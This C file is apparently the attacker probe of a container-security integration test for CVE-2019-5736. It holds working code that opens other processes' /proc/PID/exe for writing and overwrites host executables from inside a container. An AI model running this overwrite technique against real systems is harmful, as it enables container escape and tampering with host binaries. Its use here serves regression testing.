/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker of tests/integration/exe-protect.bats (CVE-2019-5736), part of the probe.
 *
 *	hunt [pid=N] [stop=FILE] [ms=N] [nap=US] [comm=NAME] [control=PATH] [once] [chmod] [deep]
 *
 * From inside a container: scan /proc (or watch the pids given, up to 8) and, for every other
 * process, try to open its /proc/PID/exe for writing, directly (O_WRONLY, O_RDWR) and through
 * an O_PATH descriptor reopened as /proc/self/fd/N; keep one O_PATH descriptor per process and
 * reopen it for writing again at the end, once the process has gone. Whatever opens for
 * writing is attacked for real (truncated, then a script written) unless it is the probe's own
 * binary. `chmod` first makes the target mode 0777 when the O_PATH open works (an owner's
 * escalation); `deep` also tries the target's fds (/proc/PID/fd/N), cwd, root, memory and
 * environment, and prints "deep: fd=E cwd=E ..." (E: "open" or the errno's name).
 * It runs until FILE exists, `ms` milliseconds have passed (default 10000) or, with `once`,
 * after one round, sleeping `nap` microseconds between rounds (default 0: it spins); it prints
 * "ready" first and one line of counts last:
 *
 *	attempts     rounds of attempts on a process; stage_attempts: on one whose comm was NAME
 *	             (default "tenant") before and after the round, i.e. tenant's code running in
 *	             the container; stage_pids: how many processes those were; stage_open: how
 *	             many of those rounds opened anything at all
 *	open_w_own   write opens of the probe's own binary (another probe process); never attacked
 *	open_w_copy  write opens of a sealed copy (a memfd with F_SEAL_WRITE)
 *	open_w_host  write opens of any other executable: tenant's binary on the host's disk
 *	open_w_control  write opens of PATH, a plain copy of an executable whose process the test
 *	             runs to show that the attack works (it is attacked too, and not counted above)
 *	written      successful writes or truncations, of anything but the probe's own binary and
 *	             PATH; written_control: of PATH
 *	kept         O_PATH descriptors kept for the end; reopen_w: write reopens among them
 *
 *	catch MNTNS COMM MS
 *
 * On the host: find a process named COMM in the mount namespace MNTNS ("mnt:[N]") that is
 * inside a PID namespace of its own (NSpid has two numbers) and runs from a memfd, stop it
 * (SIGSTOP) and print "HOSTPID NSPID"; exit 1 when none is caught within MS milliseconds.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "hunt.h"

#define MAX_KEPT 900
#define MAX_PID	 (1 << 22)

static struct {
	const char *comm;
	bool chmod, deep;
	struct stat own, control;
	unsigned long attempts, stage_attempts, stage_open, open_w_own, open_w_copy, open_w_host;
	unsigned long open_w_control, written, written_control, kept, reopen_w, chmod_ok;
	unsigned long stage_pids;
	int kept_fd[MAX_KEPT];
	unsigned char kept_pid[MAX_PID / 8], stage_pid[MAX_PID / 8];
} h;

/* A decimal number (no sign, no overflow past 10^12); anything else is 0. */
static long number(const char *s)
{
	long v = 0;

	for (; *s >= '0' && *s <= '9' && v < 1000000000000L; s++)
		v = v * 10 + (*s - '0');
	return *s ? 0 : v;
}

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static bool read_comm(int pid, char *buf, size_t len)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	n = read(fd, buf, len - 1);
	close(fd);
	if (n <= 0)
		return false;
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return true;
}

static bool same(const struct stat *a, const struct stat *b)
{
	return a->st_ino != 0 && a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static bool is_own(const struct stat *st)
{
	return same(st, &h.own);
}

/* A descriptor opened for writing: count what it is and, unless it is ours, attack it. */
static void on_write_open(int fd)
{
	static const char payload[] = "#!/bin/sh\necho overwritten from a container\n";
	struct stat st = { 0 };
	unsigned long *written = &h.written;
	int seals;

	if (fstat(fd, &st) == 0 && is_own(&st)) {
		h.open_w_own++;
		close(fd);
		return;
	}
	seals = fcntl(fd, F_GET_SEALS);
	if (same(&st, &h.control)) {
		h.open_w_control++;
		written = &h.written_control;
	} else if (seals >= 0 && (seals & F_SEAL_WRITE)) {
		h.open_w_copy++;
	} else {
		h.open_w_host++;
	}
	if (ftruncate(fd, 0) == 0)
		(*written)++;
	if (pwrite(fd, payload, sizeof(payload) - 1, 0) > 0)
		(*written)++;
	close(fd);
}

/* Open through the O_PATH descriptor fd (a magic link to the target's executable). */
static bool reopen_for_write(int fd)
{
	char path[64];
	bool any = false;
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (h.chmod && chmod(path, 0777) == 0)
		h.chmod_ok++;
	for (int i = 0; i < 2; i++) {
		w = open(path, (i ? O_RDWR : O_WRONLY) | O_CLOEXEC);
		if (w >= 0) {
			on_write_open(w);
			any = true;
		}
	}
	return any;
}

/* The entries of /proc/PID/fd, followed: "open" if any opens, else why the last did not. */
static int deep_fds(const char *dir)
{
	char path[600];
	int e = 0, fd;
	DIR *d = opendir(dir);

	if (!d)
		return errno;
	for (struct dirent *ent; (ent = readdir(d));) {
		if (ent->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, ent->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			close(fd);
			e = 0;
			break;
		}
		e = errno;
	}
	closedir(d);
	return e;
}

static void deep(int pid)
{
	static const char *const what[] = { "fd", "cwd", "root", "mem", "environ" };
	char path[64];

	printf("deep:");
	for (size_t i = 0; i < sizeof(what) / sizeof(what[0]); i++) {
		int fd, e;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, what[i]);
		if (i == 0) {
			e = deep_fds(path);
		} else {
			fd = open(path, (i == 3 ? O_RDWR : i < 3 ? O_PATH : O_RDONLY) | O_CLOEXEC);
			e = fd < 0 ? errno : 0;
			if (fd >= 0)
				close(fd);
		}
		printf(" %s=%s", what[i], e ? strerrorname_np(e) : "open");
	}
	printf("\n");
}

/* One round of attempts on pid. */
static void attack(int pid)
{
	char path[64], c1[32] = "", c2[32] = "";
	bool opened = false, stage;
	struct stat st;
	int fd;

	read_comm(pid, c1, sizeof(c1));
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	h.attempts++;
	for (int i = 0; i < 2; i++) {
		fd = open(path, (i ? O_RDWR : O_WRONLY) | O_CLOEXEC);
		if (fd >= 0) {
			on_write_open(fd);
			opened = true;
		}
	}
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		opened = true;
		if (fstat(fd, &st) == 0 && is_own(&st)) {
			close(fd);
			fd = -1;
		}
	}
	if (fd >= 0) {
		reopen_for_write(fd);
		if (pid < MAX_PID && !(h.kept_pid[pid / 8] & (1 << (pid % 8))) &&
		    h.kept < MAX_KEPT) {
			h.kept_pid[pid / 8] |= (unsigned char)(1 << (pid % 8));
			h.kept_fd[h.kept++] = fd;
		} else {
			close(fd);
		}
	}
	if (h.deep)
		deep(pid);
	read_comm(pid, c2, sizeof(c2));
	stage = strcmp(c1, h.comm) == 0 && strcmp(c2, h.comm) == 0;
	h.stage_attempts += stage;
	h.stage_open += stage && opened;
	if (stage && pid < MAX_PID && !(h.stage_pid[pid / 8] & (1 << (pid % 8)))) {
		h.stage_pid[pid / 8] |= (unsigned char)(1 << (pid % 8));
		h.stage_pids++;
	}
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	int self = getpid();

	if (!d)
		return;
	for (struct dirent *e; (e = readdir(d));) {
		int pid = (int)number(e->d_name);

		if (pid > 0 && pid != self)
			attack(pid);
	}
	closedir(d);
}

int hunt_main(char **args, int n)
{
	const char *stop = NULL, *control = NULL;
	long ms = 10000, nap = 0, deadline;
	bool once = false;
	int pids[8], n_pids = 0;

	h.comm = "tenant";
	for (int i = 0; i < n; i++) {
		if (strncmp(args[i], "pid=", 4) == 0 && n_pids < 8)
			pids[n_pids++] = (int)number(args[i] + 4);
		else if (strncmp(args[i], "stop=", 5) == 0)
			stop = args[i] + 5;
		else if (strncmp(args[i], "ms=", 3) == 0)
			ms = number(args[i] + 3);
		else if (strncmp(args[i], "nap=", 4) == 0)
			nap = number(args[i] + 4);
		else if (strncmp(args[i], "comm=", 5) == 0)
			h.comm = args[i] + 5;
		else if (strncmp(args[i], "control=", 8) == 0)
			control = args[i] + 8;
		else if (strcmp(args[i], "once") == 0)
			once = true;
		else if (strcmp(args[i], "chmod") == 0)
			h.chmod = true;
		else if (strcmp(args[i], "deep") == 0)
			h.deep = true;
		else
			return fprintf(stderr, "probe: hunt: unknown '%s'\n", args[i]), 1;
	}
	if (control && stat(control, &h.control) < 0)
		return fprintf(stderr, "probe: hunt: %s: %s\n", control, strerror(errno)), 1;
	if (stat("/proc/self/exe", &h.own) < 0)
		return fprintf(stderr, "probe: hunt: /proc/self/exe: %s\n", strerror(errno)), 1;
	printf("ready\n");
	fflush(stdout);
	deadline = now_ms() + ms;
	do {
		for (int i = 0; i < n_pids; i++)
			attack(pids[i]);
		if (n_pids == 0)
			scan();
		if (nap > 0)
			usleep((useconds_t)nap);
	} while (!once && now_ms() < deadline && !(stop && access(stop, F_OK) == 0));
	for (unsigned long i = 0; i < h.kept; i++) /* the processes have gone, or may have */
		h.reopen_w += reopen_for_write(h.kept_fd[i]);
	printf("attempts=%lu stage_attempts=%lu stage_pids=%lu stage_open=%lu open_w_own=%lu "
	       "open_w_copy=%lu open_w_host=%lu open_w_control=%lu written=%lu written_control=%lu "
	       "kept=%lu reopen_w=%lu chmod_ok=%lu\n",
	       h.attempts, h.stage_attempts, h.stage_pids, h.stage_open, h.open_w_own,
	       h.open_w_copy, h.open_w_host, h.open_w_control, h.written, h.written_control, h.kept,
	       h.reopen_w, h.chmod_ok);
	return 0;
}

/* ---- catch, on the host ---- */

static bool proc_line(int pid, const char *file, const char *key, char *buf, size_t len)
{
	char path[64], line[256];
	bool found = false;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	f = fopen(path, "re");
	if (!f)
		return false;
	while (!found && fgets(line, sizeof(line), f))
		if (strncmp(line, key, strlen(key)) == 0) {
			snprintf(buf, len, "%s", line + strlen(key));
			found = true;
		}
	fclose(f);
	return found;
}

static bool link_is(int pid, const char *file, const char *want, bool prefix_only)
{
	char path[64], buf[256];
	ssize_t k;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	k = readlink(path, buf, sizeof(buf) - 1);
	if (k < 0)
		return false;
	buf[k] = '\0';
	return prefix_only ? strncmp(buf, want, strlen(want)) == 0 : strcmp(buf, want) == 0;
}

/* A stage of tenant in the container, visible there: its PID inside, or 0. */
static int stage_nspid(int pid, const char *mntns, const char *comm)
{
	char c[32], ns[256];
	int inner = 0, k = 0;

	if (!read_comm(pid, c, sizeof(c)) || strcmp(c, comm) != 0 ||
	    !link_is(pid, "ns/mnt", mntns, false) || !link_is(pid, "exe", "/memfd:", true) ||
	    !proc_line(pid, "status", "NSpid:", ns, sizeof(ns)))
		return 0;
	for (char *t = strtok(ns, " \t\n"); t; t = strtok(NULL, " \t\n"), k++)
		inner = (int)number(t);
	return k >= 2 ? inner : 0;
}

static bool stopped(int pid)
{
	char state[64];

	for (int i = 0; i < 1000; i++) {
		if (!proc_line(pid, "status", "State:", state, sizeof(state)))
			return false;
		if (strchr(state, 'T'))
			return true;
		usleep(1000);
	}
	return false;
}

int catch_main(char **args, int n)
{
	long deadline;

	if (n != 3)
		return fprintf(stderr, "probe: catch MNTNS COMM MS\n"), 1;
	deadline = now_ms() + number(args[2]);
	while (now_ms() < deadline) {
		DIR *d = opendir("/proc");

		for (struct dirent *e; d && (e = readdir(d));) {
			int pid = (int)number(e->d_name), inner;

			if (pid <= 0 || !stage_nspid(pid, args[0], args[1]))
				continue;
			kill(pid, SIGSTOP);
			inner = stopped(pid) ? stage_nspid(pid, args[0], args[1]) : 0;
			if (inner) {
				closedir(d);
				printf("%d %d\n", pid, inner);
				return 0;
			}
			kill(pid, SIGCONT); /* it had exec'd the container's process already */
		}
		if (d)
			closedir(d);
	}
	return 1;
}
